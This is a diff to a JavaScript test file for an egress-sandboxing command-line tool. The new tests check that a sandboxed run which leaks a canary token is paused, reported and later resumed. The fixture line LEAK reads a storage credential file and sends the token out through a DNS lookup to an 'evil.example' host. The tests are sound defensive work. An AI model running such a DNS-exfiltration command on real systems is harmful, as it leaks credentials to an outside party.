@@ -174,6 +174,34 @@ test('a bottle that sends its canary is paused, says so, and goes on when a pers
   expect((await home.run(['rm', '--force', 'cli-canary'])).status).toBe(0);
 });
 
+const LEAK = '. /etc/backup/storage.env; getent hosts "$BACKUP_STORAGE_TOKEN.evil.example"';
+
+test('an attached run says that its bottle sent its canary, and goes on when a person lets it', async () => {
+  const running = home.start(['run', repository, '--quiet', '--name', 'cli-told', '--', 'sh', '-c', `${LEAK}; sleep 10; echo went on`]);
+  let words = '';
+  running.stderr.on('data', (chunk) => {
+    words += String(chunk);
+  });
+  const result = resultOf(running);
+  await waitUntil(async () => (await home.run(['status', 'cli-told'])).stdout.includes('paused'), 30_000, 'the pause');
+  await waitUntil(() => words.includes('terok: Nothing leaves this bottle'), 10_000, 'the words in the terminal');
+  expect((await home.run(['list'])).stdout).toMatch(/cli-told +paused, sent its canary/);
+  expect((await home.run(['egress', 'resume', 'cli-told'])).status).toBe(0);
+  expect(await result).toMatchObject({ status: 0, stdout: 'went on\n' });
+  expect((await home.run(['rm', '--force', 'cli-told'])).status).toBe(0);
+});
+
+test('an attached run whose time is over while its bottle is paused ends, and leaves the bottle with its work', async () => {
+  const work = `echo kept > note.txt; ${LEAK}; sleep 300`;
+  const run = await home.run(['run', repository, '--timeout', '6s', '--name', 'cli-long-pause', '--', 'sh', '-c', work]);
+  expect(run.status).toBe(124);
+  expect(run.stderr).toContain('The bottle is paused, with its work in it');
+  expect((await home.run(['status', 'cli-long-pause'])).stdout).toContain('paused');
+  expect((await home.run(['egress', 'resume', 'cli-long-pause'])).status).toBe(0);
+  expect((await home.run(['exec', 'cli-long-pause', '--', 'cat', 'note.txt'])).stdout).toBe('kept\n');
+  expect((await home.run(['rm', '--force', 'cli-long-pause'])).status).toBe(0);
+});
+
 test('a value of --env is in no command line of the host', async () => {
   const secret = 'sk-3f9a1c77d2';
   const running = home.start(['run', repository, '-e', 'TOKEN_HERE', '--quiet', '--', 'sh', '-c', 'echo "$TOKEN_HERE" | wc -c; sleep 1'], {
